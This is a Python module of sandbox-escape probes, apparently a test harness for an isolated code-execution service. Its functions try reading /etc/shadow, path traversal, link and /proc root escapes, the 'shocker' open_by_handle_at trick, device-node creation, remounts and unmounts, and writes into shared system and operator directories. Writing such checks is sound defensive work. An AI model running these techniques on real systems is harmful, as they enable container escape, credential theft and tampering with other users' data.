"""Attacks on files: those of the host, the server and other sessions."""

from __future__ import annotations

import ctypes
import os
import struct
from typing import Any

Host = dict[str, Any]


def read_shadow(host: Host) -> object:
    """Read the host's password hashes."""
    return open("/etc/shadow").read()


def read_server_data(host: Host) -> object:
    """Read a file of the server's data directory by its path."""
    return open(host["secret"]).read()


def list_server_data(host: Host) -> object:
    """List the server's data directory."""
    return os.listdir(os.path.dirname(host["secret"]))


def write_server_data(host: Host) -> object:
    """Change a file of the server."""
    with open(host["secret"], "a") as file:
        return file.write("x")


def read_neighbour(host: Host) -> object:
    """Read the workspace of another session."""
    return open(host["neighbour"]).read()


def write_neighbour(host: Host) -> object:
    """Write into the workspace of another session."""
    with open(host["neighbour"] + ".new", "w") as file:
        return file.write("x")


def symlink_out(host: Host) -> object:
    """Follow a symbolic link of one's own out of the workspace."""
    os.symlink(host["secret"], "link")
    return open("link").read()


def hard_link_out(host: Host) -> object:
    """Link a file of the host into the workspace."""
    os.link(host["secret"], "hard")
    return open("hard").read()


def dots_out(host: Host) -> object:
    """Walk up from the workspace to the server's data."""
    return open("../" * 20 + host["secret"].lstrip("/")).read()


def through_proc_root(host: Host) -> object:
    """Reach the host's files through /proc/1/root."""
    return open(f"/proc/1/root{host['secret']}").read()


def through_server_root(host: Host) -> object:
    """Reach the host's files through the root directory of the server's process."""
    return open(f"/proc/{host['server']}/root{host['secret']}").read()


def through_server_cwd(host: Host) -> object:
    """Read through the working directory of the server's process."""
    return os.listdir(f"/proc/{host['server']}/cwd/")


def through_inherited_descriptors(host: Host) -> object:
    """Climb out by a descriptor of a directory that was left open."""
    for number in range(3, 256):
        try:
            return os.listdir(f"/proc/self/fd/{number}/..")
        except OSError:
            continue
    return None


def open_by_handle(host: Host) -> object:
    """Open the host's root by a guessed file handle, as `shocker` did."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = struct.pack("IiQ", 8, 1, 2)
    directory = os.open(".", os.O_RDONLY)
    got = libc.open_by_handle_at(directory, handle, os.O_RDONLY)
    if got < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.listdir(got)


def make_device(host: Host) -> object:
    """Make a device node for the host's disk."""
    os.mknod("disk", 0o660 | 0o060000, os.makedev(254, 0))
    return open("disk", "rb").read(16)


def read_disk(host: Host) -> object:
    """Read the host's disk as a device."""
    for name in ("vda", "sda", "nvme0n1", "mem", "kmem", "port"):
        if os.path.exists(f"/dev/{name}"):
            return open(f"/dev/{name}", "rb").read(16)
    raise FileNotFoundError(2, "no device")


def write_system(host: Host) -> object:
    """Replace a program of the system."""
    with open("/usr/bin/env", "r+b") as file:
        return file.read(4)


def write_interpreter(host: Host) -> object:
    """Put a module into the interpreter that all sessions share."""
    import sys

    with open(os.path.join(os.path.dirname(os.__file__), "era_evil.py"), "w") as file:
        return file.write(sys.version)


def write_root(host: Host) -> object:
    """Make a file at the root."""
    with open("/evil", "w") as file:
        return file.write("x")


def setuid_program(host: Host) -> object:
    """Gain root by a set-uid program of the system."""
    import subprocess

    for program in ("/usr/bin/su", "/bin/mount", "/usr/bin/passwd"):
        if os.path.exists(program):
            code = "grep -i '^Cap[PE]' /proc/self/status | grep -v 0000000000000000"
            command = [program, "-c", code] if program.endswith("su") else [program, "--help"]
            done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL)
            if b"CapEff" in done.stdout:
                return done.stdout
    return None


def remount_writable(host: Host) -> object:
    """Make the read-only system writable again."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(None, b"/usr", None, ctypes.c_ulong(32 | 4096), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return "remounted"


def unmount_cover(host: Host) -> object:
    """Take away a mount to see what it covers."""
    libc = ctypes.CDLL(None, use_errno=True)
    for path in (b"/tmp", b"/proc/sys", b"/home/user", b"/"):
        if libc.umount2(path, 2) == 0:
            return path.decode()
    raise OSError(ctypes.get_errno(), "umount2")


def shared_tmp(host: Host) -> object:
    """Find files of others in /tmp."""
    return [name for name in os.listdir("/tmp") if name in host["in_tmp"]]


def shared_shm(host: Host) -> object:
    """Find shared memory of others in /dev/shm."""
    return [name for name in os.listdir("/dev/shm") if name in host["in_shm"]]


def chmod_server_data(host: Host) -> object:
    """Take the server's rights to its own file."""
    os.chmod(host["secret"], 0o600)
    return True


def link_by_descriptor(host: Host) -> object:
    """Link a file of the server by a descriptor that was opened without rights to the file."""
    path = os.open(host["secret"], os.O_PATH)
    libc = ctypes.CDLL(None, use_errno=True)
    at_fdcwd, at_empty_path = -100, 0x1000
    if libc.linkat(path, b"", at_fdcwd, b"linked", at_empty_path) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return open("linked").read()


def write_mount(host: Host) -> object:
    """Change a file of a directory that the operator offers."""
    with open(host["mount"] + "/rows", "r+") as file:
        return file.write("x")


def grow_mount(host: Host) -> object:
    """Make a file in a directory that the operator offers."""
    with open(host["mount"] + "/new", "w") as file:
        return file.write("x")


def empty_mount(host: Host) -> object:
    """Delete a file of a directory that the operator offers."""
    return os.unlink(host["mount"] + "/rows") or True


def chmod_mount(host: Host) -> object:
    """Take others' rights to a file of a directory that the operator offers."""
    return os.chmod(host["mount"] + "/rows", 0) or True


def reopen_mount(host: Host) -> object:
    """Open a file of the operator to read, and again to write through /proc."""
    number = os.open(host["mount"] + "/rows", os.O_RDONLY)
    return os.open(f"/proc/self/fd/{number}", os.O_RDWR)


def link_mount(host: Host) -> object:
    """Link a file of the operator into the workspace, to write it there."""
    os.link(host["mount"] + "/rows", "rows")
    with open("rows", "r+") as file:
        return file.write("x")


def remount_mount(host: Host) -> object:
    """Make the operator's directory writable by a remount."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(None, host["mount"].encode(), None, ctypes.c_ulong(32 | 4096), None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return True


def reset_mount(host: Host) -> object:
    """Make it writable by clearing the attribute."""
    libc = ctypes.CDLL(None, use_errno=True)
    wanted = struct.pack("QQQQ", 0, 1, 0, 0)
    if libc.syscall(442, -100, host["mount"].encode(), 0, wanted, len(wanted)) < 0:
        raise OSError(ctypes.get_errno(), "mount_setattr")
    return True


def dots_out_of_mount(host: Host) -> object:
    """Walk up from the operator's directory to what lies beside it."""
    secret = os.path.basename(host["secret"])
    return open(f"{host['mount']}/../data/{secret}").read()
